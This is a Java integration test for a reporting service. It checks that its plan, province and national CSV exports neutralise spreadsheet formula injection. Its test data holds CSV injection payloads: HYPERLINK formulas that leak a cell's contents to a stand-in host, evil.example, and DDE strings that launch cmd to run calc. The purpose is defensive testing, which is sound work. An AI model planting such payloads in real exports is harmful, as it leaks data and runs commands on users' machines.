package vn.taphuan.reporting.export;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.test.web.servlet.MockMvc;
import vn.taphuan.contracts.plan.v1.FundingAmount;
import vn.taphuan.contracts.plan.v1.PlanApproved;
import vn.taphuan.contracts.plan.v1.ProgrammeRules;
import vn.taphuan.contracts.plan.v1.TargetLine;
import vn.taphuan.contracts.tenant.v1.TenantOnboarded;
import vn.taphuan.reporting.figures.FiguresRefresher;
import vn.taphuan.reporting.support.Broker;
import vn.taphuan.reporting.support.Envelopes;
import vn.taphuan.reporting.support.ReportingIntegrationTest;
import vn.taphuan.testsupport.ServiceIntegrationTest;
import vn.taphuan.testsupport.identity.TestTokens;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.http.HttpHeaders.AUTHORIZATION;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Every text that reaches a CSV export from outside — a province's name, a plan's title, document number and
 * programme code, a target line's id and description — sent as a formula, comes out of the plan's, the province's
 * and the nation's CSV neutralised: quoted, behind a single quote, so a spreadsheet shows it and never runs it. The
 * other text columns are the service's own labels (kinds, groups, levels, states, forecasts), and province ids are
 * slugs by contract; the numbers are numbers.
 */
@ReportingIntegrationTest
class CsvExportInjectionTest {

    static final String TENANT = "tinh-cong-thuc";
    static final String PLAN = "kh-cong-thuc";
    /** Field → the formula sent in it, one of each way a formula can start. */
    static final Map<String, String> SENT = Map.of(
            "province name", "=HYPERLINK(\"http://evil.example/?\"&A1;\"Tỉnh Công Thức\")",
            "plan title", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Kế hoạch\")",
            "document number", "=1+1",
            "programme code", "+cmd|' /C calc'!A0",
            "line id", "@SUM(1+1)*cmd|' /C calc'!A0",
            "other line id", "-2+3+cmd|' /C calc'!A0",
            "line description", "\t=1+1",
            "other line description", "\r=2+2");

    @Autowired
    MockMvc http;
    @Autowired
    FiguresRefresher refresher;
    @Value(ServiceIntegrationTest.BROKERS)
    String brokers;

    @Test
    void formulasSentInEveryTextFieldComeOutOfEveryCsvExportNeutralised() throws Exception {
        try (Broker broker = new Broker(brokers)) {
            broker.publishAll(List.of(Envelopes.envelope(TENANT, TENANT, 1, "2021-01-01T00:00:00Z",
                    new TenantOnboarded(TENANT, "98", SENT.get("province name"), "2020-01-01", null, null, null))));
            broker.publishAll(List.of(Envelopes.envelope(TENANT, PLAN, 3, "2025-03-01T02:00:00Z", new PlanApproved(PLAN, 1,
                    SENT.get("programme code"), null, new ProgrammeRules(null, null, 80), SENT.get("plan title"),
                    "UBND tỉnh", SENT.get("document number"), "2025-01-01", "2025-01-01", "2025-12-31", "2025-12-31",
                    100_000_000L, List.of(new FundingAmount("PROVINCE", 100_000_000L)), List.of(
                    line(SENT.get("line id"), SENT.get("line description")),
                    line(SENT.get("other line id"), SENT.get("other line description")))))));
            broker.awaitConsumed("reporting", Duration.ofSeconds(60));
        }
        refresher.refreshPending();

        String officer = TestTokens.bearer(TestTokens.officer(TENANT));
        String analyst = TestTokens.bearer(TestTokens.analyst());
        String planCsv = csv("/api/v1/progress/plans/" + PLAN + "/export", officer);
        String provinceCsv = csv("/api/v1/progress/export", officer);
        String nationalCsv = csv("/api/v1/national/export", analyst);

        assertNeutralised(planCsv, "line id", "other line id", "line description", "other line description");
        assertNeutralised(provinceCsv, "plan title", "document number", "programme code");
        assertNeutralised(nationalCsv, "province name");
        for (String csv : List.of(planCsv, provinceCsv, nationalCsv)) {
            for (CSVRecord record : records(csv)) {
                for (String cell : record) {
                    assertThat(cell.isEmpty() || "=+@\t\r".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
                    if (cell.startsWith("-")) {
                        assertThat(cell).as("only numbers start with a minus").matches("-[0-9.]+(,[0-9]+)?");
                    }
                }
            }
        }
    }

    /** Each formula comes back as sent behind a quote, in a quoted cell: as Excel shows text, never as it runs formulas. */
    private static void assertNeutralised(String csv, String... fields) throws IOException {
        List<String> cells = new ArrayList<>();
        records(csv).forEach(record -> record.forEach(cells::add));
        for (String field : fields) {
            String sent = SENT.get(field);
            assertThat(cells).as(field).contains("'" + sent);
            assertThat(csv).as(field).contains("\"'" + sent.replace("\"", "\"\"") + "\"");
        }
    }

    private static List<CSVRecord> records(String csv) throws IOException {
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.DEFAULT.builder().setDelimiter(';').get())) {
            return parser.getRecords();
        }
    }

    private String csv(String path, String token) throws Exception {
        byte[] body = http.perform(get(path).param("format", "csv").header(AUTHORIZATION, token))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        return new String(body, StandardCharsets.UTF_8).substring(1);
    }

    private static TargetLine line(String id, String description) {
        return new TargetLine(id, "TRAINING_CLASS", "COMMUNITY", null, null, description, 4, 120, null, null, null,
                null, null);
    }
}
